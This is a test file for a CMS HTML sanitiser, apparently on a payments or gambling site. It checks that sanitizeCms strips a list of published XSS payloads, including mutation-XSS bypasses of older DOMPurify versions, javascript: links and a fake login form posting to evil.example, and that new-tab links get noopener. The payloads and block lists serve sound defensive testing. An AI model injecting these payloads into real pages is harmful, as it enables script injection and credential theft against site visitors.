import fc from 'fast-check'
import DOMPurify, { clearWindow } from 'isomorphic-dompurify'
import { describe, expect, it } from 'vitest'
import { isSafeHref } from '../navigation/url-safety.ts'
import { sanitizeCms } from './sanitize-cms.ts'

/** Published XSS payloads, mutation-XSS bypasses of earlier DOMPurify versions among them. */
export const xssPayloads = [
  '<img src=x onerror="alert(1)">',
  '<img src=x onerror=alert(1)//>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" java&#x09;script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<script>alert(1)</script><p>ok</p>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><mi><svg><mtext><style><!--</style><img src=x onerror=alert(1)>-->',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<body onload=alert(1)><p>x</p>',
  '<video><source onerror=alert(1)></video>',
  '<form action="https://evil.example"><input name="password"><button>Log in</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input onfocus=alert(1) autofocus>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="/deposit">Deposit</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{display:none}</style><p>x</p>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">overlay</p>',
  '<dialog open>Your session ended, log in again</dialog>',
  '<div popover id="p">x</div><a popovertarget="p">x</a>',
]

const forbiddenTags = new Set([
  'script',
  'iframe',
  'frame',
  'object',
  'embed',
  'form',
  'input',
  'button',
  'textarea',
  'select',
  'style',
  'svg',
  'math',
  'meta',
  'base',
  'link',
  'dialog',
])
const forbiddenAttributes = /^(?:on.*|style|srcdoc|action|formaction|popover.*|command.*)$/
const urlAttributes = new Set(['href', 'src', 'xlink:href', 'action', 'formaction', 'data'])

/** The markup read tag by tag: what a browser parsing it would build elements from. */
function expectHarmlessMarkup(html: string): void {
  for (const [, tag = '', attributes = ''] of html.matchAll(/<([a-z][a-z0-9:-]*)([^>]*)>/gi)) {
    expect(forbiddenTags.has(tag.toLowerCase()), `<${tag}> in ${html}`).toBe(false)
    for (const [, name = '', value] of attributes.matchAll(/([^\s"'=/]+)(?:\s*=\s*"([^"]*)")?/g)) {
      const attribute = name.toLowerCase()
      expect(forbiddenAttributes.test(attribute), `${attribute} in ${html}`).toBe(false)
      if (urlAttributes.has(attribute)) expect(isSafeHref(value ?? ''), html).toBe(true)
    }
  }
}

describe('sanitizeCms', () => {
  it('keeps ordinary rich text as it is', () => {
    const html = [
      '<h1>About us</h1><h2>Banking</h2><h3>Deposits</h3>',
      '<p>We accept <strong>GCash</strong>, <b>Maya</b> and <em>bank transfer</em>.<br>',
      '<i>Fast</i>, <u>safe</u>, <span class="note">24/7</span>.</p>',
      '<ul><li>Fast</li><li>Safe</li></ul><ol><li>Log in</li><li>Deposit</li></ol>',
      '<blockquote>Play responsibly.</blockquote>',
      '<table><thead><tr><th>Method</th><th>Min</th></tr></thead>',
      '<tbody><tr><td>GCash</td><td>100</td></tr></tbody></table>',
      '<img src="/images/gcash.png" alt="GCash" width="120">',
      '<a href="/deposit" title="Deposit now">Deposit</a> <a href="mailto:help@example.com">Mail</a>',
    ].join('')
    expect(sanitizeCms(html)).toBe(html)
  })

  it('keeps the text of local-language pages', () => {
    const html = '<p>हामी <strong>सुरक्षित</strong> छौं।</p><p>我们<em>安全</em>。</p>'
    expect(sanitizeCms(html)).toBe(html)
  })

  it.each(xssPayloads)('removes the payload of %s', (payload) => {
    expectHarmlessMarkup(sanitizeCms(payload))
  })

  it('keeps the harmless text around a payload', () => {
    expect(sanitizeCms('<p>Hello <img src=x onerror=alert(1)>world</p>')).toBe(
      '<p>Hello <img src="x">world</p>',
    )
    expect(sanitizeCms('<a href="javascript:alert(1)">Claim</a>')).toBe('<a>Claim</a>')
  })

  it('changes nothing the second time', () => {
    for (const payload of xssPayloads) {
      const once = sanitizeCms(payload)
      expect(sanitizeCms(once)).toBe(once)
    }
  })

  it('stays harmless when payloads are mixed with ordinary text', () => {
    const pieces = fc.constantFrom(...xssPayloads, '<p>', '</p>', 'text', '<b>', '</a>', '"', '>')
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 6 }), (parts) => {
        expectHarmlessMarkup(sanitizeCms(parts.join('')))
      }),
      { numRuns: 60 },
    )
  })
})

describe('links to a new tab', () => {
  it('cannot reach back to the site', () => {
    expect(sanitizeCms('<a href="https://partner.example" target="_blank">Partner</a>')).toBe(
      '<a href="https://partner.example" target="_blank" rel="noopener noreferrer">Partner</a>',
    )
  })

  it('keep their own rel words, but never opener', () => {
    expect(sanitizeCms('<a href="/x" target="_BLANK" rel="nofollow opener">x</a>')).toBe(
      '<a href="/x" target="_blank" rel="nofollow noopener noreferrer">x</a>',
    )
  })

  it('include named windows, which open a new tab too', () => {
    expect(sanitizeCms('<a href="/x" target="partner">x</a>')).toBe(
      '<a href="/x" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })

  it('leave same-tab links alone, without a target that could break out of a frame', () => {
    expect(sanitizeCms('<a href="/x">x</a>')).toBe('<a href="/x">x</a>')
    expect(sanitizeCms('<a href="/x" target="_top">x</a>')).toBe('<a href="/x">x</a>')
    expect(sanitizeCms('<a href="/x" target="_self">x</a>')).toBe('<a href="/x">x</a>')
    expect(sanitizeCms('<img src="/a.png" target="_blank">')).toBe('<img src="/a.png">')
  })

  it('get the same rel however often they are cleaned', () => {
    const once = sanitizeCms('<a href="/x" target="_blank">x</a>')
    expect(sanitizeCms(sanitizeCms(once))).toBe(once)
  })

  it('do not change how other code’s DOMPurify calls treat links', () => {
    sanitizeCms('<a href="/x" target="_blank">x</a>')
    expect(DOMPurify.sanitize('<a href="/x" target="_blank">x</a>', { ADD_ATTR: ['target'] })).toBe(
      '<a href="/x" target="_blank">x</a>',
    )
  })

  it('are still guarded after the DOMPurify window is replaced', () => {
    sanitizeCms('<p>warm up</p>')
    clearWindow()
    expect(sanitizeCms('<a href="/x" target="_blank">x</a>')).toBe(
      '<a href="/x" target="_blank" rel="noopener noreferrer">x</a>',
    )
  })
})
